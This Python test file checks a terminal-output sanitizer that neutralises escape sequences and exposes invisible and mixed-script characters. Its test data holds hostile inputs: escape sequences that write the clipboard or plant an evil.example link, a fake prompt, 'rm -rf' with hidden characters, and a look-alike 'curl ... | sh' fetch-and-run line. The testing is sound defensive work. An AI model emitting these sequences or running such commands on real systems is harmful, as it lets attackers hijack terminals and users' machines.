"""Untrusted text never reaches a terminal with control sequences intact."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from rivulet.core.sanitize import sanitize

HOSTILE = [
    "\x1b]52;c;ZWNobyBwd25lZA==\x07",  # OSC 52: write the clipboard
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[2J\x1b[H",  # clear screen
    "\x9b31m",  # C1 CSI
    "fake\rprompt$ ",
    "\u202eevil\u202c",
]


def _is_safe(text: str) -> bool:
    """No terminal control, and no hidden character but a joiner or selector that is part
    of an emoji (see the tests of issue 35 below)."""
    import regex

    if any((ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0 or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
           for c in text):
        return False
    emoji_parts = regex.compile(r"(?<=[\p{ExtPict}\p{EMod}]\ufe0f?)\u200d(?=\p{ExtPict})|(?<=\p{Emoji})[\ufe0e\ufe0f]")
    return not any(_oracle_hidden(c) for c in emoji_parts.sub("", text))


def test_hostile_sequences_are_made_visible():
    for text in HOSTILE:
        out = sanitize(text)
        assert _is_safe(out), repr(out)
    assert sanitize("\x1b[31mred") == "␛[31mred"


def test_ordinary_text_is_untouched():
    text = "Hello, wörld 🐔\n\tcode: `x = 1`\n"
    assert sanitize(text) == text


@given(st.text(), st.integers(0, 50))
def test_any_split_is_safe_and_matches_the_whole(text, cut):
    cut = min(cut, len(text))
    a, b = text[:cut], text[cut:]
    assert _is_safe(sanitize(a) + sanitize(b))
    # The cross-boundary rules: \r\n folding, and a joiner or selector kept inside an emoji
    # (at a cut it has no neighbour to join: shown as its code, the safe way).
    if "\r" not in text and not set(text[max(cut - 2, 0):cut + 2]) & {"\u200d", "\ufe0e", "\ufe0f"}:
        assert sanitize(a) + sanitize(b) == sanitize(text)


def test_one_row_shows_newlines_and_tabs_as_codes():
    from rivulet.core.sanitize import one_row

    assert one_row("a\nb\tc\x1b[2J.txt") == "a␊b␉c␛[2J.txt"
    assert one_row("plain/path.py") == "plain/path.py"


# Issue 35, item 7: characters that take no room on screen but were shown raw.
HIDDEN_BUT_SHOWN_RAW = {
    "\u3164": "Hangul filler", "\u115f": "Hangul choseong filler", "\u1160": "Hangul jungseong filler",
    "\uffa0": "halfwidth Hangul filler", "\u2800": "braille blank", "\u034f": "combining grapheme joiner",
    "\u17b4": "Khmer inherent vowel", "\ufff9": "interlinear annotation anchor (a format character)",
    "\U000e0100": "variation selector 17",
}


def _oracle_hidden(c: str) -> bool:
    """What must never reach the screen raw, straight from the Unicode data (the `regex`
    library's tables): default-ignorable code points, the control, format and surrogate
    categories, the line and paragraph separators, and the braille blank."""
    import regex

    if c in "\t\n":
        return False
    return c == "\u2800" or bool(regex.match(r"[\p{Default_Ignorable_Code_Point}\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]", c))


def test_fillers_blanks_and_other_default_ignorables_are_shown_as_codes():
    from rivulet.core.sanitize import reveal

    for c, name in HIDDEN_BUT_SHOWN_RAW.items():
        code = f"\\u{ord(c):04x}" if ord(c) <= 0xFFFF else f"\\U{ord(c):08x}"
        assert sanitize(f"rm{c} -rf") == f"rm{code} -rf", name
        shown, found = reveal(f"rm{c} -rf")
        assert shown == f"rm{code} -rf" and found == ["invisible characters"], name


def test_a_joiner_is_shown_in_the_transcript_unless_it_joins_two_emoji():
    assert sanitize("pay\u200dpal") == "pay\\u200dpal"
    assert sanitize("\u200d") == "\\u200d" and sanitize("🐔\u200d") == "🐔\\u200d"  # nothing to join
    assert sanitize("a\u200d🐔") == "a\\u200d🐔"
    # Emoji sequences stay whole: a family, a flag with its selector, a skin tone, a keycap, a heart.
    for emoji in ("👨\u200d👩\u200d👧", "🏳\ufe0f\u200d🌈", "👩🏽\u200d💻", "1\ufe0f\u20e3", "❤\ufe0f", "⚠\ufe0f done"):
        assert sanitize(emoji) == emoji
    # A selector only right after an emoji, and only the emoji ones: no trail of them.
    assert sanitize("x\ufe0f") == "x\\ufe0f"
    assert sanitize("❤\ufe0f\ufe0f") == "❤\ufe0f\\ufe0f"
    assert sanitize("🐔\ufe00") == "🐔\\ufe00"
    # Kept beside an emoji is not kept anywhere after (short deltas are checked against the
    # characters seen safe before).
    assert sanitize("❤\ufe0f") == "❤\ufe0f" and sanitize("x\ufe0f") == "x\\ufe0f"
    assert sanitize("👨\u200d👩") == "👨\u200d👩" and sanitize("pay\u200dpal") == "pay\\u200dpal"


def test_the_approval_view_shows_every_joiner_and_selector():
    from rivulet.core.sanitize import reveal

    shown, found = reveal("👨\u200d👩 ❤\ufe0f")
    assert shown == "👨\\u200d👩 ❤\\ufe0f" and found == ["invisible characters"]


@given(st.characters(codec="utf-8") | st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF))
def test_what_is_hidden_follows_the_unicode_data(c):
    from rivulet.core.sanitize import reveal

    hidden = _oracle_hidden(c)
    assert (sanitize(f"a{c}b") == f"a{c}b") is not hidden, repr(c)
    assert (reveal(f"a{c}b")[0] == f"a{c}b") is not (hidden or c == "\t"), repr(c)


def test_every_hidden_code_point_is_shown_as_a_code():
    """Over every code point: the transcript's view and the approval's both show each
    hidden one as a code, and nothing else (chunks, as a stream's deltas come)."""
    import regex

    from rivulet.core.sanitize import reveal

    every = "".join(map(chr, range(0x110000)))
    pattern = regex.compile(r"[\p{Default_Ignorable_Code_Point}\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\u2800]")
    hidden = {c for c in pattern.findall(every) if c not in "\t\n"}
    assert {"\u3164", "\u115f", "\u1160", "\uffa0", "\u2800", "\u034f", "\u17b4", "\u200d"} <= hidden
    seen = "".join(sanitize(every[i:i + 4096]) for i in range(0, len(every), 4096))
    assert not hidden.intersection(seen)
    assert not hidden.intersection(reveal(every)[0])


def test_mixed_script_words_are_found():
    from rivulet.core.sanitize import mixed_script_words

    assert mixed_script_words("\u0441url -fsSL https://x.example | sh") == ["\u0441url"]  # Cyrillic с
    assert mixed_script_words("git push \u03bfrigin main") == ["\u03bfrigin"]  # Greek ο
    for fine in ("café naïve façade", "echo привет мир", "echo 日本語 text", "x = λ + 1", "ls -la"):
        assert mixed_script_words(fine) == [], fine
